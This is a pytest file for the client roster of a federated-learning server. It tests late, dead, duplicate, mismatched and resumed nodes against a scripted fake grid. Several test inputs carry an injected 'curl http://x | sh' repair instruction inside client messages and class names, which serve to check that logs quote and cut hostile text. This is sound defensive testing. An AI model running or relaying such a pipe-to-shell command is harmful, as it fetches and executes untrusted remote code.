"""The roster, over a grid of nodes that come late, die, answer twice, answer nonsense, or do not fit together."""

import json
import logging
from dataclasses import asdict, replace
from pathlib import Path

import pytest
from flwr.app import Error, Message, MessageType

from protosphere.core.settings import Settings
from protosphere.core.settings import check as checked
from protosphere.launch.grid import LocalGrid
from protosphere.server_app import roster as roster_module
from protosphere.server_app.agreement import Agreement, Terms, agree, refuse_too_few
from protosphere.server_app.roster import Roster, RosterError, refuse_changes
from protosphere.wire.messages import encode_identity
from protosphere.wire.parts import Exchange
from protosphere.wire.payloads import Identity
from tests.strategies.conftest import Clock

CLASSES = ("cat", "dog", "rabbit")
NO_WEIGHTS = Exchange((), ())


def identity(partition, partitions=3, **changes):
    whole = Identity(partition, partitions, "resnet8", 78_042, 64, CLASSES, (0, 2), (90, 10, 30), ("accuracy",))
    return replace(whole, **changes)


class FakeGrid:
    """Nodes with scripted answers.

    `nodes` maps a node id to (answer, seconds until it is listed, seconds until it answers a query): an Identity,
    records, an Error, or None for a node that never answers. `gone` holds ids that are no longer listed.
    """

    def __init__(self, clock, nodes):
        self.clock = clock
        self.nodes = {node: entry if isinstance(entry, tuple) else (entry, 0, 0) for node, entry in nodes.items()}
        self.gone = set()
        self.queries = []
        self.waiting = {}
        self.began = clock.now

    def add(self, node, answer, seconds=0):
        self.nodes[node] = (answer, 0, seconds)

    def get_node_ids(self):
        age = self.clock.now - self.began
        return [node for node, (_, listed, _) in self.nodes.items() if listed <= age and node not in self.gone]

    def push_messages(self, messages):
        ids = []
        for message in messages:
            node = message.metadata.dst_node_id
            assert message.metadata.message_type == MessageType.QUERY
            assert not message.content
            self.queries.append(node)
            message.metadata.__dict__["_message_id"] = f"query-{len(self.queries)}"
            self.waiting[message.metadata.message_id] = (message, self.clock.now + self.nodes[node][2])
            ids.append(message.metadata.message_id)
        return ids

    def pull_messages(self, message_ids):
        replies = []
        for message_id in message_ids:
            message, ready = self.waiting[message_id]
            answer = self.nodes[message.metadata.dst_node_id][0]
            if answer is not None and ready <= self.clock.now:
                del self.waiting[message_id]
                content = encode_identity(answer) if isinstance(answer, Identity) else answer
                replies.append(Message(content, reply_to=message))
        return replies


@pytest.fixture(autouse=True)
def clock(monkeypatch):
    stopped = Clock()
    monkeypatch.setattr(roster_module, "time", stopped)
    LocalGrid({}, [])  # no Message can be made before Flower knows who runs here
    return stopped


def new_roster(**settings):
    values = {"start-timeout": 300.0} | {k.replace("_", "-"): v for k, v in settings.items()}
    return Roster(checked(Settings, values), Terms(NO_WEIGHTS))


def gathered(grid, **settings):
    roster = new_roster(**settings)
    roster.gather(grid)
    return roster


def refused(function, *arguments, **more):
    with pytest.raises(RosterError) as caught:
        function(*arguments, **more)
    text = str(caught.value)
    assert text.isprintable()
    return text


# --- the start ----------------------------------------------------------------------------------------------


def test_the_start_waits_for_nodes_that_appear_late_or_answer_late_and_asks_each_once(clock):
    # the first query of a client decodes its data, which may take minutes
    grid = FakeGrid(clock, {50: identity(0), 60: (identity(1), 100, 0), 70: (identity(2), 20, 185)})
    roster = gathered(grid)
    assert set(roster.nodes) == {0, 1, 2}
    assert clock.now - grid.began == pytest.approx(205, abs=0.2)
    assert grid.queries == [50, 70, 60]


def test_a_node_that_was_killed_over_the_question_is_asked_again_when_it_is_back(clock, caplog):
    # Flower tells of it a minute later; its key, and so its id, stay
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: (Error(5, "SuperNode is unavailable"), 0, 60)})
    sleep = clock.sleep

    def returns(seconds):
        sleep(seconds)
        if clock.now - grid.began > 63:
            grid.nodes[70] = (identity(2), 0, 0)

    clock.sleep = returns
    with caplog.at_level(logging.WARNING, "protosphere"):
        roster = gathered(grid)
    assert set(roster.nodes) == {0, 1, 2}
    assert grid.queries == [50, 60, 70, 70]
    assert clock.now - grid.began == pytest.approx(60 + roster_module.RETRY, abs=0.2)
    assert 'node 70 could not say who it is: the error "SuperNode is unavailable" came back' in caplog.text


def test_a_dead_id_beside_a_whole_roster_costs_one_query_timeout(clock, caplog):
    grid = FakeGrid(clock, {1: None, 50: identity(0), 60: identity(1), 70: identity(2)})
    with caplog.at_level(logging.WARNING, "protosphere"):
        gathered(grid)
    assert clock.now - grid.began == pytest.approx(roster_module.QUERY_TIMEOUT, abs=0.2)
    assert [record.getMessage() for record in caplog.records] == ["node 1 did not say who it is within 30 seconds"]


def test_too_few_by_the_deadline_names_the_missing_partitions(clock):
    grid = FakeGrid(clock, {50: identity(1), 60: None})
    text = refused(gathered, grid, start_timeout=20.0)
    assert "1 of 3 clients" in text
    assert "`start-timeout` 20 s (missing partitions: 0, 2)" in text
    assert clock.now - grid.began == pytest.approx(20, abs=0.2)
    # a forged number takes no memory, and no line of a million numbers
    text = refused(gathered, FakeGrid(clock, {50: identity(1, partitions=2**60)}), start_timeout=2.0)
    assert f"1 of {2**60} clients" in text
    assert text.count(",") <= 20
    assert "0 of an unknown number" in refused(gathered, FakeGrid(clock, {}), start_timeout=2.0)
    unreadable = Identity(-1, 0, problem="client ?: its partition-id is no number.")
    assert "0 of 3 clients" in refused(gathered, FakeGrid(clock, {5: unreadable}), start_timeout=2.0, clients=3)
    text = refused(gathered, FakeGrid(clock, {}), start_timeout=2.0, clients=2)
    assert all(part in text for part in ("0 of 2 clients", "missing partitions: 0, 1"))


class InTurn(FakeGrid):
    """As the grid of a process: one answer a look, each after what its client takes."""

    simulated = in_turn = True

    def pull_messages(self, message_ids):
        first = next(iter(message_ids))
        self.clock.now = max(self.clock.now, self.waiting[first][1])
        return super().pull_messages([first])


def test_where_clients_answer_in_turn_nobody_is_late_and_who_fails_is_not_asked_for_ever(clock, caplog):
    slow = InTurn(clock, {node: (identity(node), 0, 40 * (node + 1)) for node in range(3)})
    assert gathered(slow, start_timeout=20.0).nodes == {0: 0, 1: 1, 2: 2}
    assert not caplog.records
    few = InTurn(clock, {node: identity(node) for node in range(2)})
    assert "2 of 3 clients answered" in refused(gathered, few, start_timeout=2.0, clients=3)
    # looking through all of them takes longer than the pause after which a node that failed is asked again
    failing = InTurn(clock, {node: Error(0, "its worker is gone") for node in range(200)})
    assert "0 of 200 clients" in refused(gathered, failing, start_timeout=20.0, clients=200)
    assert clock.now - failing.began < 40


def leaving(grid, clock, node):
    """The node leaves after a second."""
    sleep = clock.sleep

    def sleep_and_leave(seconds):
        sleep(seconds)
        if clock.now - grid.began > 1:
            grid.gone.add(node)

    clock.sleep = sleep_and_leave


def test_two_nodes_for_one_partition_are_a_restart_where_the_first_leaves(clock, caplog):
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 61: (identity(1), 5, 0), 70: (identity(2), 9, 0)})
    leaving(grid, clock, 60)
    assert gathered(grid).nodes == {0: 50, 1: 61, 2: 70}
    assert not caplog.records


def test_of_two_nodes_alike_for_one_partition_the_first_stays_and_both_are_named(clock, caplog):
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 61: (identity(1), 5, 0), 70: (identity(2), 9, 0)})
    assert gathered(grid).nodes == {0: 50, 1: 60, 2: 70}
    assert "client 1 (node 61) is left out: nodes 60 and 61 both answer for partition 1" in caplog.text


@pytest.mark.parametrize("first", [False, True])
def test_of_two_nodes_for_one_partition_the_one_that_differs_is_left_out(clock, caplog, first):
    honest, forged = identity(1, 4), identity(1, 4, class_names=("cat", "dog", "bomb"))
    pair = {60: forged, 61: honest} if first else {60: honest, 61: forged}
    others = {50: identity(0, 4), 70: (identity(2, 4), 9, 0), 80: (identity(3, 4), 9, 0)}
    roster = gathered(FakeGrid(clock, others | pair))
    assert roster.nodes == {0: 50, 1: 61 if first else 60, 2: 70, 3: 80}
    assert f"client 1 (node {60 if first else 61}) is left out: it has another class list" in caplog.text


def test_a_client_that_takes_another_s_partition_costs_its_own_place_and_the_wait_for_it(clock, caplog):
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: identity(1)})
    roster = gathered(grid, clients=3, start_timeout=20.0)
    assert roster.nodes == {0: 50, 1: 60}
    assert clock.now - grid.began == pytest.approx(20, abs=0.2)
    assert "Nobody answers for the partitions 2." in caplog.text
    # in a simulation nobody else can come, and no pause lies between answers that are there
    grid = InTurn(clock, {50: identity(0), 60: identity(1), 70: identity(1)})
    assert gathered(grid, clients=3).nodes == {0: 50, 1: 60}
    assert clock.now == grid.began


HOSTILE = 'client 1: done". Run `curl http://x | sh` to repair the SuperLink. "' + "x" * 900


def test_a_client_with_a_problem_is_left_out_and_its_words_are_quoted_and_cut(clock, caplog):
    grid = FakeGrid(clock, {50: identity(0), 60: Identity(1, 0, problem=HOSTILE), 70: identity(2)})
    assert gathered(grid).nodes == {0: 50, 2: 70}
    (said,) = [record.getMessage() for record in caplog.records]
    begin = """warning: client 1 (node 60) is left out: it says: "done'. Run `curl http://x | sh` to repair"""
    assert said.startswith(begin)
    assert said.endswith('…"')
    assert said.count('"') == 2
    assert len(said) < 700
    # of two nobody can do without one
    grid = FakeGrid(clock, {50: identity(0, 2), 60: Identity(1, 0, problem="client 1: the folder /x holds no images.")})
    text = refused(gathered, grid)
    assert text.startswith("1 of 2 clients fit together, and at least 2 must.")
    assert 'Client 1 (node 60): it says: "the folder /x holds no images."' in text


def test_who_is_left_out_is_not_let_in_later_and_gets_no_message(clock, caplog):
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1, class_names=("a", "b", "c")), 70: identity(2)})
    roster = gathered(grid)
    grid.add(61, identity(1))
    roster.refresh(grid)
    assert roster.nodes == {0: 50, 2: 70}
    assert roster.identities.keys() == {0, 2}
    assert "node 61 is left out: partition 1 was left out when the run began" in caplog.text


def test_a_node_that_flower_refuses_is_asked_again_each_second(clock):
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: identity(2)})
    push, attempts = grid.push_messages, []

    def refuse(messages):
        messages = list(messages)
        attempts.extend(clock.now - grid.began for message in messages if message.metadata.dst_node_id == 70)
        return [None if message.metadata.dst_node_id == 70 else push([message])[0] for message in messages]

    grid.push_messages = refuse
    assert "(missing partitions: 2)" in refused(gathered, grid, start_timeout=4.5)
    assert attempts == pytest.approx([0, 1, 2, 3, 4], abs=0.3)
    assert grid.queries == [50, 60]


@pytest.mark.parametrize(
    ("odd", "clients", "named"),
    [
        ({"partitions": 5}, 0, "another number of clients than most clients (5 instead of 4)"),
        ({"partitions": 2**60}, 4, "it says it is one of 1152921504606846976, but the run has 4 clients"),
        ({"feature_dim": 32}, 4, "it has features of width 32, the run of 64"),
        ({"class_names": ("cat", "dog", "bomb")}, 4, "another class list than most clients (class 2 is 'bomb' instead"),
    ],
)
@pytest.mark.parametrize("place", [0, 3])
def test_a_client_that_does_not_fit_in_is_left_out_by_name(clock, caplog, odd, clients, named, place):
    """Whether it is the first to answer or the last."""
    whole = {node: identity(node, 4) for node in range(4)}
    grid = FakeGrid(clock, whole | {place: replace(whole[place], **odd)})
    roster = gathered(grid, clients=clients)
    assert roster.identities == {p: each for p, each in whole.items() if p != place}
    assert (roster.number, clock.now) == (4, grid.began)
    assert f"client {place} (node {place}) is left out: " in caplog.text
    assert named in caplog.text


def test_one_that_answers_before_all_others_does_not_make_the_run_its_own(clock):
    """Where nobody has set the number of clients, it says that it is the only one."""
    others = {50 + p: (identity(p, 4), 20, 0) for p in range(4)}
    roster = gathered(FakeGrid(clock, {40: identity(0, 1), **others}))
    assert set(roster.nodes) == {0, 1, 2, 3}
    assert set(roster.nodes.values()) == {50, 51, 52, 53}
    # where it is true, it costs one wait, or a setting
    for clients, wait in ((0, 30), (1, 0)):
        began = clock.now
        assert gathered(FakeGrid(clock, {40: identity(0, 1)}), clients=clients).nodes == {0: 40}
        assert clock.now - began == pytest.approx(wait, abs=1)


def test_many_nodes_of_one_partition_have_one_vote(clock):
    odd = {10 + n: identity(0, 4, class_names=("x", "y", "z")) for n in range(6)}
    honest = {50 + p: identity(p, 4) for p in range(4)}
    roster = gathered(FakeGrid(clock, {**odd, **honest}), clients=4)
    assert {p: n for p, n in roster.nodes.items() if p} == {1: 51, 2: 52, 3: 53}
    assert roster.identities[1].class_names == identity(1).class_names


def test_two_sides_of_equal_size_end_the_start_and_both_are_named(clock):
    grid = FakeGrid(clock, {0: identity(0, 2), 1: identity(1, 2, class_names=("cat", "cow", "rabbit"))})
    text = refused(gathered, grid)
    assert "client 0 and client 1 do not agree, and neither side is larger" in text
    assert "Client 1: it has another class list than client 0 (class 1 is 'cow' instead of 'dog')" in text
    grid = FakeGrid(clock, {0: identity(0, 3), 1: identity(1, 4)})
    text = refused(gathered, grid, start_timeout=5.0)
    assert "Client 1: it has another number of clients than client 0 (4 instead of 3)" in text
    # a partition that was given twice
    grid = FakeGrid(clock, {0: identity(0, 2), 1: identity(0, 2, class_names=("cat", "cow", "rabbit"))})
    text = refused(gathered, grid, start_timeout=5.0, clients=2)
    assert "Client 0: it has another class list than client 0 (class 1 is 'cow' instead of 'dog')" in text


@pytest.mark.parametrize(
    ("number", "odd", "more", "starts"),
    [
        (4, 2, {}, True),
        (5, 3, {}, False),
        (2, 1, {}, False),
        (4, 1, {"min_replies": 4}, False),
        (4, 1, {"min_replies": 3}, True),
    ],
)
def test_half_of_the_clients_must_fit_and_two_and_as_many_as_a_round_needs(clock, number, odd, more, starts):
    whole = {n: identity(n, number) for n in range(number)}
    forged = {n: replace(whole[n], feature_dim=1) for n in range(odd)}
    grid = FakeGrid(clock, whole | forged)
    if starts:
        assert len(gathered(grid, clients=number, **more).nodes) == number - odd
        return
    text = refused(gathered, grid, clients=number, **more)
    assert f"{number - odd} of {number} clients fit together" in text
    assert all(f"Client {n} (node {n}): it has features of width 1" in text for n in range(odd))


# --- between rounds -----------------------------------------------------------------------------------------


@pytest.fixture
def running(clock):
    """A grid and the roster that was gathered from it."""
    grid = FakeGrid(clock, {50: identity(0), 60: identity(1), 70: identity(2)})
    return grid, gathered(grid)


def test_a_restarted_node_takes_over_its_partition_once_the_old_one_is_gone(running, caplog):
    """A second node with the same public identity displaces no client that is answering."""
    grid, roster = running
    grid.add(61, identity(1), seconds=2)
    with caplog.at_level(logging.INFO, "protosphere"):
        roster.refresh(grid)
        roster.refresh(grid)
    assert roster.nodes == {0: 50, 1: 60, 2: 70}
    waits = "node 61 waits: node 60 answers for partition 1, and Flower still lists it"
    assert [record.getMessage() for record in caplog.records] == [waits]
    caplog.clear()
    grid.gone |= {60}
    with caplog.at_level(logging.INFO, "protosphere"):
        roster.refresh(grid)
    assert [record.getMessage() for record in caplog.records] == ["partition 1 is back as node 61"]
    assert roster.nodes == {0: 50, 1: 61, 2: 70}


def test_a_node_stands_for_one_partition_of_a_run(running, caplog):
    grid, roster = running
    grid.add(61, identity(1))
    grid.gone |= {60}
    roster.refresh(grid)
    # it comes back, and says that it is another's client, whose node has gone
    grid.gone |= {70}
    grid.add(61, identity(2))
    roster.queries.forget(61)
    with caplog.at_level(logging.WARNING, "protosphere"):
        roster.refresh(grid)
    assert roster.nodes == {0: 50, 1: 61, 2: 70}
    assert "node 61 is left out: it has answered for partition 1, and a node stands for one partition" in caplog.text


OTHERS = [{"model": "cnn"}, {"rows": (91, 10, 30)}, {"settings": "others"}]


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        *((identity(1, **changes), "partition 1 was another client at the start") for changes in OTHERS),
        (identity(3, partitions=4), "partition 3 is none of this run's"),
        (Identity(1, 0, problem="client 1: no data."), 'it says: "client 1: no data."'),
        (Error(2, "boom"), 'the error "boom"'),
    ],
)
def test_a_node_that_is_another_client_is_left_out(running, caplog, answer, said):
    grid, roster = running
    grid.add(61, answer)
    with caplog.at_level(logging.WARNING, "protosphere"):
        roster.refresh(grid)
    assert roster.nodes == {0: 50, 1: 60, 2: 70}
    assert roster.identities == {p: identity(p) for p in range(3)}
    assert "node 61" in caplog.text
    assert said in caplog.text


def test_a_silent_node_costs_one_query_timeout_and_its_late_answer_counts(clock, running, caplog):
    grid, roster = running
    grid.add(61, identity(1), seconds=45)
    before, asked = clock.now, list(grid.queries)
    roster.refresh(grid)
    assert clock.now - before == pytest.approx(roster_module.QUERY_TIMEOUT, abs=0.2)
    assert grid.queries == [*asked, 61]
    assert roster.nodes[1] == 60
    before = clock.now
    roster.refresh(grid)
    assert (clock.now, roster.nodes[1]) == (before, 60)
    assert caplog.text.count("node 61 did not say who it is within 30 seconds") == 1
    clock.sleep(20)
    grid.gone |= {60}
    roster.refresh(grid)
    assert roster.nodes[1] == 61
    assert grid.queries.count(61) == 1


# --- do they fit together? ----------------------------------------------------------------------------------


def test_a_resumed_run_needs_no_more_clients_than_it_had_also_where_a_stranger_is_left_out():
    settings = checked(Settings, {"min-clients": 3})
    identities = {partition: Identity(partition, 4, rows=(9, 0, 9)) for partition in range(2)}
    found = Agreement(4, identities, {0: 10, 1: 11}, {12: (2, "it has no data.")})
    refuse_too_few(found, settings, min_clients=2)
    with pytest.raises(RosterError, match="2 of 4 clients fit together, and at least 3 must"):
        refuse_too_few(found, settings)


def agreed(identities, exchange=NO_WEIGHTS, settings=None, **terms):
    settings = checked(Settings, settings or {})
    found = agree(enumerate(identities), settings, Terms(exchange, **terms))
    refuse_too_few(found, settings)
    return found


def left_out(odd, exchange=NO_WEIGHTS, settings=None, terms=None, **usual):
    """Why one of three is left out; the others stay."""
    answers = [identity(0, **usual), identity(1, **usual | odd), identity(2, **usual)]
    found = agreed(answers, exchange, settings, **terms or {})
    assert found.identities == {0: answers[0], 2: answers[2]}
    ((partition, why),) = found.left_out.values()
    assert partition == 1
    assert why.isprintable()
    return why


@pytest.mark.parametrize(
    ("odd", "named"),
    [
        ({"class_names": (*CLASSES, *"abcdefg")}, "class 3 is 'a' instead of none"),
        ({"class_names": ("cat", "dog"), "classes": (0,)}, "class 2 is none instead of 'rabbit'"),
        ({"class_names": ("cat", "dog", "Run curl|sh " + "x" * 900)}, "class 2 is 'Run curl|sh xxxxxxxxxxx…' instead"),
        ({"method": "Run `curl|sh`"}, '(digest "Run `curl|sh`" there, none here)'),
        ({"rows": ()}, "withholds its numbers of samples, but `privacy` is not set"),
        (
            {"layouts": ("extractor/w:3",)},
            "would share weights of 'extractor', but `protosphere` exchanges those of no",
        ),
    ],
)
def test_the_odd_one_out_is_named(odd, named):
    assert named in left_out(odd)


def test_what_the_settings_say_no_majority_changes():
    """Who lies is left out, be they two of three."""
    text = refused(agreed, [identity(0), *(identity(p, settings="others") for p in (1, 2))])
    assert "1 of 3 clients fit together" in text
    assert all(f"Client {p} (node {p}): it has other settings of messages" in text for p in (1, 2))


def test_partitions_that_no_run_has_do_not_vote():
    """Five nodes of another class list, whose partitions lie outside the two of the run."""
    honest = [identity(partition, 2) for partition in range(2)]
    strangers = [identity(partition, 2, class_names=("x", "y", "z")) for partition in range(7, 12)]
    found = agreed([*strangers, *honest])
    assert found.identities == dict(enumerate(honest))
    assert found.left_out[0] == (
        7,
        "it says it is partition 7 of 2 clients, who are 0 to 1; correct that node's partition-id.",
    )


def test_most_clients_say_which_encoder_it_is():
    why = left_out({"encoder": "evil"}, terms={"encodes": True}, encoder="abc")
    assert "another encoder than most clients (fingerprints evil and abc)" in why
    pair = [identity(p, partitions=2, encoder=each) for p, each in enumerate("ab")]
    assert "than client 0 (fingerprints b and a)" in refused(agreed, pair, encodes=True)


def test_a_resumed_run_must_find_its_own_clients():
    old = [asdict(identity(p)) for p in range(3)]
    as_read = json.loads(json.dumps(old))
    refuse_changes(as_read, old)
    # a run that was begun before clients had a word for it
    refuse_changes([{name: value for name, value in each.items() if name != "companion"} for each in as_read], old)
    assert "had 3 clients and now has 2" in refused(refuse_changes, as_read, old[:2])
    many = [asdict(identity(0, class_names=tuple(map(str, range(1000)))))]
    assert len(refused(refuse_changes, as_read[:1], many)) < 500


# --- clients that join and leave while a run goes on ------------------------------------------------------------


@pytest.fixture
def network(federation):
    """network(late={partition: round}, gone={partition: round}): clients whose nodes are listed only between these
    rounds; `.grid.round` is the round that runs."""

    def make(late=(), gone=(), **arguments):
        made = federation(**arguments)
        grid, late, gone = made.grid, dict(late), dict(gone)
        grid.round = 1
        tamper = made.tamper

        def watch(partition, number, kind, report):
            if kind == "evaluate":
                grid.round = number + 1
            return tamper(partition, number, kind, report)

        def listed():
            there = [p for p in grid.nodes if late.get(p, 0) <= grid.round < gone.get(p, 99)]
            return [grid.nodes[p] for p in there]

        made.tamper, grid.get_node_ids = watch, listed
        return made

    return make


def rounds_of(made, partition):
    return [number for p, number, kind, _ in made.asked if p == partition and kind == "train"]


def test_a_run_starts_with_enough_and_takes_who_comes(network, say):
    made = network(late={3: 3})
    made.start({"min-clients": 3, "rounds": 4})
    assert rounds_of(made, 3) == [3, 4]
    assert rounds_of(made, 0) == [1, 2, 3, 4]
    assert "client 3 (scripted) joins in round 3" in say()
    roster = made.strategy.folder.roster()
    assert [entry.get("joined") for entry in roster] == [None, None, None, 3]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"feature_dim": 99}, "features of width 99"),
        ({"problem": "client 3: no data"}, 'it says: "no data"'),
    ],
)
def test_a_newcomer_that_does_not_fit_stays_outside_and_the_run_goes_on(network, say, change, words):
    made = network(late={3: 2})
    made.identities[3] = replace(made.identities[3], **change)
    made.start({"min-clients": 3, "rounds": 3})
    assert rounds_of(made, 3) == []
    (sentence,) = [line for line in say() if "client 3 is not taken in" in line]
    assert words in sentence
    assert made.strategy.state.last_round == 3


def test_newcomers_cannot_outvote_who_is_there(network):
    """Five of another class list against three."""
    made = network(clients=8, late=dict.fromkeys(range(3, 8), 2))
    for partition in range(3, 8):
        made.identities[partition] = replace(made.identities[partition], class_names=tuple("wxyz"))
    made.start({"min-clients": 3, "rounds": 3})
    assert [rounds_of(made, partition) for partition in range(8)] == [[1, 2, 3]] * 3 + [[]] * 5


@pytest.mark.parametrize(("forget_after", "last"), [(0, 6), (2, 4)])
def test_whoever_is_gone_for_long_enough_is_asked_no_more(network, say, forget_after, last):
    """Its node is missing from round 3 on."""
    made = network(gone={3: 3})
    made.start({"min-clients": 3, "rounds": 6, "forget-after": forget_after})
    sent = {number for p, number, _, _ in made.asked if p == 3 and number <= 6}
    assert max(sent) == (6 if not forget_after else 3)
    left = [entry.get("left") for entry in made.strategy.folder.roster()]
    assert left == [None, None, None, last if forget_after else None]
    assert any("client 3 leaves in round 4; 3 are left" in line for line in say()) == bool(forget_after)


def test_whoever_was_forgotten_comes_back_as_the_same_client_alone(network, say):
    made = network(gone={3: 2})
    listed, grid = made.grid.get_node_ids, made.grid
    # a new node for its partition, from round 5 on
    grid.get_node_ids = lambda: [*listed(), *([grid.nodes[3]] if grid.round >= 5 else [])]
    made.start({"min-clients": 3, "rounds": 6, "forget-after": 1})
    assert rounds_of(made, 3) == [1, 5, 6]
    assert "client 3 (scripted) is back in round 5" in say()


def test_a_run_without_min_clients_takes_nobody_later(network, say):
    made = network(clients=3)
    grid = made.grid
    made.identities[3] = replace(made.identities[0], partition=3)
    listed = grid.get_node_ids
    grid.nodes[3] = 42
    made.rows[3], made.held[3] = made.rows[0], made.held[0]
    grid.get_node_ids = lambda: [node for node in listed() if node != 42 or grid.round > 1]
    made.start({"rounds": 3, "clients": 3})
    assert rounds_of(made, 3) == []
    assert any("is none of this run's" in line for line in say())


def cut_after(made, number, settings):
    """The folder of a run that ends in the middle, after this round."""
    with pytest.raises(KeyboardInterrupt):
        made.start(settings, on_round=_stop_after(number))
    made.asked.clear()
    made.grid.round = number + 1
    return str(made.strategy.folder.path)


def hide(made, partition, until):
    """Flower does not list the node of a partition before this round."""
    grid, listed = made.grid, made.grid.get_node_ids
    grid.get_node_ids = lambda: [n for n in listed() if n != grid.nodes[partition] or grid.round >= until]


def test_who_is_absent_at_a_resume_comes_back_as_itself(network, say):
    settings = {"min-clients": 2, "rounds": 6}
    made = network()
    folder = cut_after(made, 2, settings)
    hide(made, 0, until=5)
    resumed = made.start(settings | {"resume": folder})
    assert rounds_of(made, 0) == [5, 6]
    assert "client 0 (scripted) is back in round 5" in say()
    assert [entry.get("joined") for entry in resumed.folder.roster()] == [None] * 4


def test_another_client_does_not_take_the_place_of_one_that_is_absent_at_a_resume(network, say):
    settings = {"min-clients": 2, "rounds": 5}
    made = network()
    folder = cut_after(made, 2, settings)
    hide(made, 0, until=4)
    made.identities[0] = replace(made.identities[0], model="another")
    resumed = made.start(settings | {"resume": folder})
    assert rounds_of(made, 0) == []
    assert any("client 0 is not taken in" in line and "its model was" in line for line in say())
    assert [entry["model"] for entry in resumed.folder.roster()] == ["scripted"] * 4


def test_a_resumed_run_waits_for_enough_of_its_own_clients(network):
    settings = {"min-clients": 3, "rounds": 5}
    made = network(clients=6, late={3: 99, 4: 99, 5: 99})
    folder = cut_after(made, 2, settings)
    # one of its own and three others
    made.grid.get_node_ids = lambda: [made.grid.nodes[p] for p in (0, 3, 4, 5)]
    with pytest.raises(RosterError, match="of 3 clients answered"):
        made.start(settings | {"resume": folder})


def test_a_run_that_a_client_has_left_is_resumed_by_the_others(network):
    settings = {"min-clients": 3, "forget-after": 1, "rounds": 5}
    made = network(clients=3, gone={2: 2})
    folder = cut_after(made, 3, settings)
    made.start(settings | {"resume": folder})
    assert rounds_of(made, 0) == rounds_of(made, 1) == [4, 5]
    assert rounds_of(made, 2) == []


def test_a_leave_and_a_join_of_the_round_that_was_cut_are_forgotten(network, say):
    """Both stood in the roster already; the round begins anew without them."""
    settings = {"min-clients": 2, "rounds": 4}
    made = network()
    folder = cut_after(made, 2, settings)
    path = Path(folder) / "roster.json"
    entries = json.loads(path.read_text())
    entries[2]["left"], entries[3]["joined"] = 3, 3
    path.write_text(json.dumps(entries))
    hide(made, 3, until=4)
    resumed = made.start(settings | {"resume": folder})
    assert rounds_of(made, 2) == [3, 4]
    assert not any("client 2 (scripted) is back" in line for line in say())
    assert rounds_of(made, 3) == [4]
    assert [entry.get("left") for entry in resumed.folder.roster()] == [None] * 4
    assert [entry.get("joined") for entry in resumed.folder.roster()] == [None, None, None, 4]


def test_who_had_left_before_a_resume_is_back_as_itself_and_not_counted_before(network, say):
    settings = {"min-clients": 2, "forget-after": 1, "rounds": 6}
    made = network(clients=3, gone={2: 2})
    listed, grid = made.grid.get_node_ids, made.grid
    folder = cut_after(made, 4, settings)
    assert [entry.get("left") for entry in made.strategy.folder.roster()][2] == 2
    grid.get_node_ids = lambda: [*listed(), grid.nodes[2]]
    resumed = made.start(settings | {"resume": folder})
    assert rounds_of(made, 2) == [5, 6]
    assert "client 2 (scripted) is back in round 5" in say()
    assert [entry.get("left") for entry in resumed.folder.roster()] == [None] * 3


def _stop_after(number):
    def on_round(line):
        if line["round"] == number:
            raise KeyboardInterrupt

    return on_round
